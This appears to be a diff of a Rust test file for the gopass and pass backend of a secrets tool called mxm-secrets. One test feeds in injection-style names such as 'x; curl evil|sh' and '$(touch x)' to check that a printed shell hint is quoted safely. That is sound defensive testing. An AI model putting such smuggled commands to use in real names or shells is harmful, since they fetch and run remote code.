@@ -1,11 +1,15 @@
 //! The gopass backend, with the real programs: gopass 1.15.18 and 1.16.1, Debian's other gopass, and pass.
 
+mod damage;
+
 use std::fs;
 use std::os::unix::fs::PermissionsExt;
+use std::os::unix::fs::symlink;
 use std::os::unix::process::CommandExt;
-use std::path::PathBuf;
+use std::path::{Path, PathBuf};
 use std::time::{Duration, Instant};
 
+use crate::support::rights::bound;
 use crate::support::store::{PASSPHRASE, Store};
 use crate::support::terminal::Terminal;
 use crate::support::{Home, STRANGER, find, not_run, program, transcript};
@@ -161,21 +165,7 @@ fn autoclip_and_safecontent_do_not_matter() {
 fn a_mounted_store_is_read() {
     each_version(|store| {
         let path = store.home.path().join("team");
-        let mount = [
-            "--yes",
-            "init",
-            "--crypto",
-            "gpgcli",
-            "--storage",
-            "fs",
-            "--store",
-            "team/x",
-            "--path",
-        ];
-        store.gopass(
-            &[&mount[..], &[path.to_str().unwrap(), &store.key()]].concat(),
-            b"",
-        );
+        store.mount("team/x", "team");
         store.insert("team/x/key", "mounted\n");
         store.home.run(["get", "team/x/key"]).is(0, "mounted\n", "");
         store
@@ -214,17 +204,13 @@ fn a_corrupt_file_or_a_wrong_key_is_a_failure() {
                 "",
                 &format!(
                     "mxm-secrets: gopass failed: {name} cannot be decrypted: locked or wrong key, or a damaged file\n\
-                     mxm-secrets: hint: see what it says in a terminal: gopass show -- {name}\n"
+                     mxm-secrets: hint: to see its error output, run: gopass show -- {name}\n"
                 ),
             );
         }
         store.insert("a", "value");
         fs::remove_dir_all(store.home.path().join("gnupg/private-keys-v1.d")).unwrap();
-        let _ = store
-            .home
-            .command(find("gpgconf").unwrap())
-            .args(["--kill", "gpg-agent"])
-            .status();
+        store.end_agent();
         store
             .home
             .run(["get", "a"])
@@ -277,11 +263,7 @@ fn a_person_at_a_terminal_is_asked_for_the_passphrase() {
         store.insert("a", "value");
         let configuration = format!("pinentry-program {}\n", pinentry.display());
         store.home.write("gnupg/gpg-agent.conf", configuration);
-        let _ = store
-            .home
-            .command(find("gpgconf").unwrap())
-            .args(["--kill", "gpg-agent"])
-            .status();
+        store.end_agent();
         let mut command = store.home.mxm_secrets(["get", "a"]);
         command.env("TERM", "xterm");
         let mut terminal = Terminal::start(command);
@@ -297,11 +279,7 @@ fn a_person_at_a_terminal_is_asked_for_the_passphrase() {
 fn a_store_that_may_not_be_read_is_a_failure() {
     each_version(|store| {
         store.insert("prod/a", "value");
-        let _ = store
-            .home
-            .command(find("gpgconf").unwrap())
-            .args(["--kill", "gpg-agent"])
-            .status();
+        store.end_agent();
         let run = |name: &str| {
             let mut command = store.home.command(store.home.path().join("mxm-secrets"));
             transcript(command.args(["get", name]).uid(STRANGER).gid(STRANGER))
@@ -367,17 +345,13 @@ fn without_gopass_the_next_backend_is_asked() {
 
 /// Debian's gopass, or pass, under the name gopass, on a store that the real one has made.
 fn other(program: PathBuf) -> Option<Store> {
-    let mut store = Store::new(VERSIONS[0])?;
+    let store = Store::new(VERSIONS[0])?;
     store.insert("prod/api-key", "s3cret\n");
     store.encrypt("exact", b"no newline, \xff\x00 and all");
     store.encrypt("looks", "prod\n├── a\n└── b\n".as_bytes());
     store.encrypt("hollow", b"");
     fs::write(store.root().join("junk.gpg"), "junk").unwrap();
-    fs::remove_file(store.home.path().join("bin/gopass")).unwrap();
-    store.home.install("gopass", &program);
-    let root = store.root();
-    store.home.set("PASSWORD_STORE_DIR", root);
-    Some(store)
+    Some(store.read_by(&program, "gopass"))
 }
 
 #[test]
@@ -389,6 +363,11 @@ fn debians_other_gopass_works() {
     let home = &store.home;
     home.run(["get", "prod/api-key"]).is(0, "s3cret\n", "");
     home.run(["get", "looks"]).is(0, "prod\n├── a\n└── b\n", "");
+    // It would take the blanks off.
+    store.encrypt("blanks", b"  \tv \n\n");
+    home.run(["get", "--raw", "blanks"]).is(0, "  \tv \n\n", "");
+    home.run(["get", "--raw", "exact"])
+        .is(0, b"no newline, \xff\x00 and all", "");
     home.run(["get", "nope"]).has(1, "", &["nope is missing"]);
     home.run(["get", "prod"]).has(1, "", &["prod is missing"]);
     home.run(["get", "junk"])
@@ -413,11 +392,9 @@ fn pass_works() {
     let Some(program) = program("pass") else {
         return;
     };
-    let Some(mut store) = other(program) else {
+    let Some(store) = other(program) else {
         return;
     };
-    let path = format!("{}:/usr/bin:/bin", store.home.path().join("bin").display());
-    store.home.set("PATH", path);
     let home = &store.home;
     home.run(["get", "prod/api-key"]).is(0, "s3cret\n", "");
     home.run(["get", "--raw", "exact"])
@@ -441,6 +418,448 @@ fn pass_works() {
         "",
         &["gopass: unavailable: the password store is not initialized"],
     );
+}
+
+/// A home with a secret, whose gopass is of that name.
+fn called(name: &str, version: &str) -> Option<Store> {
+    let store = Store::new(version)?;
+    store.encrypt("db", b"topsecret\nuser: bob\n");
+    store.gopass(&["config", "show.safecontent", "true"], b"");
+    let gopass = fs::read_link(store.home.path().join("bin/gopass")).unwrap();
+    let store = store.read_by(&gopass, name);
+    Some(store)
+}
+
+#[test]
+fn a_program_is_what_it_is_whatever_its_name() {
+    for version in VERSIONS {
+        let Some(store) = called("pass", version) else {
+            return;
+        };
+        let home = &store.home;
+        let values = || {
+            home.run(["get", "db"]).is(0, "topsecret\nuser: bob\n", "");
+            home.run(["get", "none"]).has(1, "", &["none is missing"]);
+        };
+        values();
+        let seen = home.run(["list-backends"]);
+        let words = format!("gopass {version} (");
+        assert!(String::from_utf8_lossy(&seen.stdout).contains(&words));
+        // A script that starts it, and a link to that.
+        let (pass, script) = (home.path().join("bin/pass"), home.path().join("bin/script"));
+        let gopass = fs::read_link(&pass).unwrap();
+        fs::remove_file(&pass).unwrap();
+        home.program(
+            "script",
+            &format!("#!/bin/sh\nexec '{}' \"$@\"\n", gopass.display()),
+        );
+        symlink(&script, &pass).unwrap();
+        values();
+    }
+}
+
+#[test]
+fn pass_may_be_called_gopass_and_started_by_a_script() {
+    let Some(program) = program("pass") else {
+        return;
+    };
+    let Some(store) = Store::new(VERSIONS[0]) else {
+        return;
+    };
+    store.encrypt("exact", b"no newline");
+    let store = store.read_by(&program, "gopass");
+    let home = &store.home;
+    home.run(["get", "--raw", "exact"]).is(0, "no newline", "");
+    let gopass = home.path().join("bin/gopass");
+    fs::remove_file(&gopass).unwrap();
+    home.program(
+        "gopass",
+        &format!("#!/bin/sh\nexec '{}' \"$@\"\n", program.display()),
+    );
+    home.run(["get", "--raw", "exact"]).is(0, "no newline", "");
+    home.run(["get", "none"]).has(1, "", &["none is missing"]);
+}
+
+#[test]
+fn words_of_gopass_are_names_too() {
+    each_version(|store| {
+        for name in [
+            "h",
+            "help",
+            "--generate-bash-completion",
+            "-h",
+            "--help",
+            "show",
+        ] {
+            store
+                .home
+                .run(["get", "--default", "D", "--", name])
+                .is(3, "D\n", "");
+            store.encrypt(name, format!("value of {name}\n").as_bytes());
+            store
+                .home
+                .run(["get", "--", name])
+                .is(0, format!("value of {name}\n"), "");
+        }
+        fs::write(store.root().join("h.gpg"), "junk").unwrap();
+        store.home.run(["get", "h"]).has(
+            4,
+            "",
+            &["hint: to see its error output, run: gopass show -- /h\n"],
+        );
+    });
+}
+
+#[test]
+fn a_hint_is_a_command_that_does_what_it_says() {
+    each_version(|store| {
+        for name in ["x; curl evil|sh", "it's", "-n", "$(touch x)"] {
+            fs::write(store.root().join(format!("{name}.gpg")), "junk").unwrap();
+            let seen = store.home.run(["get", "--", name]);
+            let hint = seen.stderr.split("run: ").nth(1).unwrap();
+            let mut shell = store.home.command("/bin/sh");
+            shell.args([
+                "-c",
+                &format!("gopass() {{ for a; do echo \"<$a>\"; done; }}\n{hint}"),
+            ]);
+            transcript(&mut shell).is(0, format!("<show>\n<-->\n<{name}>\n"), "");
+        }
+    });
+}
+
+#[test]
+fn a_tree_in_a_hidden_folder_is_a_text() {
+    let tree = "layout:\n├── a\n└── b\n";
+    each_version(|store| {
+        for name in [".notes/layout", "notes/.layout", "notes/.x/layout"] {
+            fs::create_dir_all(store.root().join(name).parent().unwrap()).unwrap();
+            store.encrypt(name, tree.as_bytes());
+            store.home.run(["get", name]).is(0, tree, "");
+        }
+        store
+            .home
+            .run(["get", "-v", "notes"])
+            .has(1, "", &["notes is a folder"]);
+        // gopass says of this one that it is not found.
+        fs::create_dir(store.root().join("hollow")).unwrap();
+        store
+            .home
+            .run(["get", "-v", "hollow"])
+            .has(1, "", &["hollow is a folder"]);
+    });
+}
+
+#[test]
+fn attachments_come_as_their_bytes() {
+    each_version(|store| {
+        let bytes: Vec<u8> = (0..=255).cycle().take(3001).collect();
+        let file = store.home.write("some file", &bytes);
+        store.gopass(&["fscopy", file.to_str().unwrap(), "a/copied"], b"");
+        store.gopass(&["cat", "a/piped"], &bytes);
+        store.gopass(&["cat", "a/one"], b"\n");
+        store.gopass(&["cat", "a/json"], br#"{"user":"bob"}"#);
+        let get = |name| store.home.run(["get", "--raw", name]);
+        get("a/copied").is(0, &bytes, "");
+        get("a/piped").is(0, &bytes, "");
+        get("a/json#user").is(0, "bob", "");
+        let mut text = String::from("\nContent-Disposition: attachment; filename=\"x\"\n");
+        text += "Content-Transfer-Encoding: Base64\nYQ=\n";
+        store.encrypt("a/damaged", text.as_bytes());
+        get("a/damaged").has(
+            4,
+            "",
+            &["a/damaged is an attachment whose base64 is damaged"],
+        );
+    });
+}
+
+#[test]
+fn stores_are_read_where_gopass_reads_them() {
+    each_version(|store| {
+        let home = &store.home;
+        let gone = |command: &mut std::process::Command, place: &str| {
+            let words = format!("far/x: the store mounted at far is not there: {place}");
+            transcript(command.args(["get", "far/x", "--default", "D"])).has(4, "", &[&words]);
+        };
+        store.insert("far/x", "of the root store\n");
+        home.run(["get", "far/x"]).is(0, "of the root store\n", "");
+        let mut named = home.mxm_secrets([""; 0]);
+        named.env("GOPASS_CONFIG_COUNT", "1");
+        named
+            .env("GOPASS_CONFIG_KEY_0", "mounts.far.path")
+            .env("GOPASS_CONFIG_VALUE_0", "/no/far");
+        gone(&mut named, "/no/far");
+        // Void, since one is missing, for gopass too.
+        let mut void = home.mxm_secrets(["get", "far/x"]);
+        void.env("GOPASS_CONFIG_COUNT", "2");
+        void.env("GOPASS_CONFIG_KEY_0", "mounts.far.path")
+            .env("GOPASS_CONFIG_VALUE_0", "/no/far");
+        transcript(&mut void).is(0, "of the root store\n", "");
+        let configuration = home.path().join(".config/gopass/config");
+        let usual = fs::read_to_string(&configuration).unwrap();
+        for spelling in [
+            "[mounts \"far\"]\n path = /no/far # gone",
+            "[Mounts far]\nPATH=\"/no/far\"",
+            "[mounts \"far\"]\n; path = /here\npath = /no/far\npath = /here",
+            "[include]\npath = other",
+        ] {
+            home.write(".config/gopass/other", "[mounts \"far\"]\npath = /no/far\n");
+            fs::write(&configuration, format!("{usual}{spelling}\n")).unwrap();
+            gone(&mut home.mxm_secrets([""; 0]), "/no/far");
+        }
+        fs::write(
+            &configuration,
+            format!("{usual}[mounts \"far\"]\npath = ~/far\n"),
+        )
+        .unwrap();
+        gone(
+            &mut home.mxm_secrets([""; 0]),
+            &home.path().join("far").display().to_string(),
+        );
+        // In the root store itself.
+        fs::write(&configuration, usual).unwrap();
+        fs::write(
+            store.root().join("config"),
+            "[mounts \"far\"]\npath = /no/far\n",
+        )
+        .unwrap();
+        gone(&mut home.mxm_secrets([""; 0]), "/no/far");
+    });
+}
+
+#[test]
+fn a_configuration_of_any_size_is_refused_in_time() {
+    each_version(|store| {
+        store.insert("a", "value\n");
+        let path = store.home.path().join(".config/gopass/config");
+        let usual = fs::read(&path).unwrap();
+        let refused = |words: &str| {
+            let started = Instant::now();
+            store
+                .home
+                .run(["get", "a", "--default", "D"])
+                .has(4, "", &[words]);
+            assert!(started.elapsed() < Duration::from_secs(10));
+        };
+        fs::File::create(&path).unwrap().set_len(800 << 20).unwrap();
+        refused("is larger than 1 MiB");
+        fs::remove_file(&path).unwrap();
+        symlink("/dev/zero", &path).unwrap();
+        refused("is larger than 1 MiB");
+        fs::remove_file(&path).unwrap();
+        fs::write(&path, [&usual[..], b"[include]\npath = config\n"].concat()).unwrap();
+        store.home.run(["get", "a"]).is(0, "value\n", "");
+    });
+}
+
+#[test]
+fn nothing_reaches_the_clipboard_whatever_the_environment_counts() {
+    each_version(|store| {
+        store.insert("a", "value\n");
+        store.gopass(&["config", "show.autoclip", "true"], b"");
+        let copies = |name: &str| {
+            store
+                .home
+                .program(name, "#!/bin/sh\n/bin/cat >>\"$HOME/copied\"\n")
+        };
+        ["xsel", "xclip", "wl-copy", "copy"]
+            .into_iter()
+            .for_each(copies);
+        for (count, key) in [
+            ("4294967295", ""),
+            ("-1", ""),
+            ("1", "show.autoclip"),
+            ("x", ""),
+            ("1", "core.x"),
+        ] {
+            let mut command = store.home.mxm_secrets(["get", "a"]);
+            command
+                .env("GOPASS_CONFIG_COUNT", count)
+                .env("GOPASS_CLIPBOARD_COPY_CMD", "copy");
+            command
+                .env("DISPLAY", ":0")
+                .env("MXM_SECRETS_NO_INPUT", "0");
+            if !key.is_empty() {
+                command
+                    .env("GOPASS_CONFIG_KEY_0", key)
+                    .env("GOPASS_CONFIG_VALUE_0", "true");
+            }
+            transcript(&mut command).is(0, "value\n", "");
+            assert!(!store.home.path().join("copied").exists(), "{count} {key}");
+        }
+    });
+}
+
+#[test]
+fn a_store_without_its_program_is_failed() {
+    each_version(|store| {
+        store.insert("a", "value\n");
+        fs::remove_file(store.home.path().join("bin/gopass")).unwrap();
+        let bin = store.home.path().join("bin");
+        let failed = format!(
+            "mxm-secrets: a: gopass failed: there is a password store, but gopass is not on PATH\n\
+             mxm-secrets: hint: install it, or add its directory to PATH, which is {}\n",
+            bin.display()
+        );
+        for arguments in [&["get", "a"][..], &["get", "a", "--default", "D"]] {
+            let mut command = store.home.mxm_secrets(arguments);
+            let seen = transcript(command.env("A", "of another store"));
+            assert_eq!(seen.status, Some(4), "{}", seen.stderr);
+            assert!(
+                seen.stderr
+                    .ends_with(failed.split("gopass failed").nth(1).unwrap())
+            );
+        }
+        let seen = store.home.run(["list-backends"]);
+        let text = String::from_utf8_lossy(&seen.stdout).into_owned();
+        assert!(
+            text.contains("failed") && text.contains("there is a password store"),
+            "{text}"
+        );
+    });
+}
+
+#[test]
+fn list_backends_starts_no_gopass_outside_the_chain_and_never_writes() {
+    each_version(|store| {
+        let real = fs::read_link(store.home.path().join("bin/gopass")).unwrap();
+        let home = Home::new();
+        home.fake("gopass", &format!("exec '{}' \"$@\"", real.display()));
+        fs::remove_dir_all(home.path().join(".password-store")).unwrap();
+        let before = files(home.path());
+        home.run(["list-backends", "--backend", "env"]).has(
+            0,
+            home.run(["list-backends", "--backend", "env"]).stdout,
+            &[],
+        );
+        assert_eq!(home.log("gopass"), [""; 0]);
+        home.run(["list-backends"]);
+        assert_eq!(home.log("gopass"), ["--version"]);
+        fs::remove_file(home.path().join("gopass.log")).unwrap();
+        assert_eq!(files(home.path()), before);
+    });
+}
+
+/// A store of age, whose own encryption says that an empty secret is one. One that hides its names has a list of them.
+#[test]
+fn stores_of_age_are_read_and_those_that_hide_their_names() {
+    let (Some(gopass), Some(age)) = (program("gopass-1.16.1"), program("age")) else {
+        return;
+    };
+    let mut home = Home::new();
+    home.install("gopass", &gopass);
+    home.link(&["git"]);
+    home.set("GOPASS_AGE_PASSWORD", "pp");
+    home.write(
+        ".gitconfig",
+        "[user]\n\tname = T\n\temail = t@example.org\n",
+    );
+    let root = home.path().join(".local/share/gopass/stores/root");
+    let gopass = |arguments: &[&str]| transcript(home.command(&gopass).args(arguments)).stdout;
+    gopass(&["--yes", "age", "identities", "keygen"]);
+    let recipient = String::from_utf8(gopass(&["age", "identities"])).unwrap();
+    let recipient = recipient.trim();
+    gopass(&[
+        "--yes",
+        "init",
+        "--crypto",
+        "age",
+        "--storage",
+        "fs",
+        recipient,
+    ]);
+    let encrypt = |name: &str, value: &str| {
+        let plain = home.write("plain", value);
+        let mut command = home.command(&age);
+        command
+            .args(["-r", recipient, "-o"])
+            .arg(root.join(name))
+            .arg(plain);
+        assert!(command.status().unwrap().success());
+    };
+    let get = |name: &str| home.run(["get", "-v", "--backend", "gopass", name]);
+    encrypt("a.age", "value\n");
+    encrypt("empty.age", "");
+    get("a").has(0, "value\n", &[]);
+    get("empty").has(1, "", &["empty is empty"]);
+    get("none").has(1, "", &["none is not in the password store"]);
+    fs::write(root.join("a.age"), "").unwrap();
+    get("a").has(4, "", &["a cannot be decrypted"]);
+    gopass(&["config", "cryptfs.substorage", "fs"]);
+    encrypt("0123", "hidden\n");
+    encrypt(
+        ".gopass-mapping",
+        r#"{"prod/b.age":"0123","prod/c.age":"4567"}"#,
+    );
+    get("prod/b").has(0, "hidden\n", &[]);
+    get("prod").has(1, "", &["prod is a folder"]);
+    get("prod/none").has(1, "", &["prod/none is not in the password store"]);
+    // Listed, and its file is not there.
+    get("prod/c").has(4, "", &["prod/c is listed, but cannot be read"]);
+    fs::write(root.join(".gopass-mapping"), "junk").unwrap();
+    get("prod/b").has(4, "", &["prod/b: gopass cannot list its secrets"]);
+}
+
+#[test]
+fn stores_in_plain_text_are_read() {
+    each_version(|store| {
+        fs::remove_dir_all(store.root()).unwrap();
+        fs::create_dir(store.root()).unwrap();
+        store.gopass(
+            &["--yes", "init", "--crypto", "plain", "--storage", "fs"],
+            b"",
+        );
+        fs::write(store.root().join("a.txt"), "value\n").unwrap();
+        fs::write(store.root().join("empty.txt"), "").unwrap();
+        store.home.run(["get", "a"]).is(0, "value\n", "");
+        store
+            .home
+            .run(["get", "-v", "empty"])
+            .has(1, "", &["empty is empty"]);
+        store
+            .home
+            .run(["get", "none"])
+            .has(1, "", &["none is missing"]);
+        fs::set_permissions(
+            store.root().join("a.txt"),
+            fs::Permissions::from_mode(0o000),
+        )
+        .unwrap();
+        let command = store.home.mxm_secrets(["get", "a", "--default", "D"]);
+        transcript(&mut bound(&command)).has(4, "", &["a: cannot read", "ermission denied"]);
+    });
+}
+
+/// All files and directories below a directory.
+fn files(directory: &Path) -> Vec<PathBuf> {
+    let mut all = Vec::new();
+    for entry in fs::read_dir(directory).unwrap() {
+        let path = entry.unwrap().path();
+        if path.is_dir() && !path.is_symlink() {
+            all.extend(files(&path));
+        }
+        all.push(path);
+    }
+    all.sort();
+    all
+}
+
+#[test]
+fn a_damaged_file_is_failed_at_a_terminal_too() {
+    each_version(|store| {
+        store.insert("a", "value\n");
+        store.insert("empty", "");
+        let file = store.root().join("a.gpg");
+        let whole = fs::read(&file).unwrap();
+        fs::write(file, &whole[..200]).unwrap();
+        let at_terminal =
+            |name: &str| Terminal::start(store.home.mxm_secrets(["get", name])).ends();
+        let (status, screen) = at_terminal("a");
+        assert_eq!(status.code(), Some(4), "{screen}");
+        assert!(screen.contains("a.gpg is damaged"), "{screen}");
+        let (status, screen) = at_terminal("empty");
+        assert_eq!(status.code(), Some(1), "{screen}");
+    });
 }
 
 /// The gopass of Debian's package, unpacked beside: both can be on one machine.
